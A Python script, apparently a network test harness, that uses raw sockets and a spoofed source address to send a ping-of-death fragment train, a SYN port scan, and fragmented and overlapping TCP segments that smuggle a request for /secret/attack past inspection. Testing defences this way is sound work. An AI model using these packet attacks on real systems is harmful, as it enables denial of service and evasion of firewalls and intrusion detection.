"""Sends what a test asks for, as no kernel would: by raw sockets, from an address that nobody else has.

    attacks.py WHAT SOURCE SERVER PORT

WHAT: ping (fragments beyond 65,535 bytes), scan (SYNs to 30 ports, of which it says how many answer), fragments, overlap, plain (requests).
"""
import socket
import struct
import sys
import time

what, source, server, port = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
addresses = socket.inet_aton(source) + socket.inet_aton(server)
out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
heard = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
heard.settimeout(3)
identification = 100


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def send(protocol, payload, offset=0, more=False, number=None):
    global identification
    if number is None:
        identification += 1
        number = identification
    place = offset // 8 | (0x2000 if more else 0)
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), number, place, 64, protocol, 0)
    out.sendto(header + addresses + payload, (server, 0))


def segment(own, sequence, ack, flags, data=b""):
    def header(total):
        return struct.pack("!HHIIBBHHH", own, port, sequence & 0xFFFFFFFF, ack & 0xFFFFFFFF, 0x50, flags, 64000, total, 0)

    length = 20 + len(data)
    return header(checksum(addresses + struct.pack("!HH", 6, length) + header(0) + data)) + data


def segments():
    """What the server sends, until nothing more comes: its port, the one it is sent to, and all of the segment."""
    while True:
        try:
            packet = heard.recv(65535)
        except TimeoutError:
            return
        ip, total = (packet[0] & 15) * 4, struct.unpack("!H", packet[2:4])[0]
        if packet[9] != 6 or packet[12:16] != addresses[4:] or packet[16:20] != addresses[:4]:
            continue
        tcp = packet[ip:total]
        yield *struct.unpack("!HH", tcp[:4]), tcp


def answers(own):
    """Segments of the connection from this port: flags, sequence number, data."""
    for of, to, tcp in segments():
        if (of, to) == (port, own):
            yield tcp[13], struct.unpack("!I", tcp[4:8])[0], tcp[(tcp[12] >> 4) * 4 :]


def request(own, how):
    send(6, segment(own, 1000, 0, 2))
    ack = next((number + 1 for flags, number, _ in answers(own) if flags & 18 == 18), None)
    if ack is None:
        print("no connection")
        return
    send(6, segment(own, 1001, ack, 16))
    sent = how(own, 1001, ack)
    data = b""
    for flags, _, more in answers(own):
        data += more
        if flags & 5:
            break
    # It is over, for whoever still waits.
    send(6, segment(own, 1001 + sent, ack + len(data), 16))
    send(6, segment(own, 1001 + sent, ack + len(data), 20))
    print(data.decode("latin-1"))


def plain(own, sequence, ack):
    line = b"GET /page HTTP/1.0\r\n\r\n"
    send(6, segment(own, sequence, ack, 24, line))
    return len(line)


def fragments(own, sequence, ack):
    whole = segment(own, sequence, ack, 24, b"GET /secret/attack HTTP/1.0\r\n\r\n")
    cuts = [0, 24, 32, 40, len(whole)]
    pieces = list(zip(cuts, cuts[1:]))
    for first, last in reversed(pieces):
        send(6, whole[first:last], first, last < len(whole), 77)
    # Once more: who let the others pass has a receiver that waits for the one.
    for first, last in pieces:
        send(6, whole[first:last], first, last < len(whole), 77)
    return len(whole) - 20


def overlap(own, sequence, ack):
    # What the server has not got yet is said twice: "att" before "xyz" for who takes the first.
    attack, decoy = b"GET /secret/attack HTTP/1.0\r\n\r\n", b"/secret/xyzack HTT"
    send(6, segment(own, sequence + 4, ack, 24, attack[4:22]))
    time.sleep(0.1)
    send(6, segment(own, sequence + 4, ack, 24, decoy))
    send(6, segment(own, sequence + 22, ack, 24, attack[22:]))
    time.sleep(0.1)
    send(6, segment(own, sequence, ack, 24, attack[:4]))
    return len(attack)


if what == "ping":
    # 65,528 + 100 bytes: a header that says so cannot be written.
    for offset in range(0, 65528, 1400):
        size = min(1400, 65528 - offset)
        head = b"\x08\0\0\0\0\1\0\1" if offset == 0 else b""
        send(1, head + b"x" * (size - len(head)), offset, True, 66)
    send(1, b"x" * 100, 65528, False, 66)
elif what == "scan":
    for number in range(30):
        port = 2000 + number
        send(6, segment(40000, 7, 0, 2))
    # Nobody listens there: a server that is asked says so.
    answered = {of for of, to, tcp in segments() if to == 40000 and tcp[13] & 4}
    print(f"{len(answered)} ports answered")
else:
    request(41000 + len(what), {"plain": plain, "fragments": fragments, "overlap": overlap}[what])
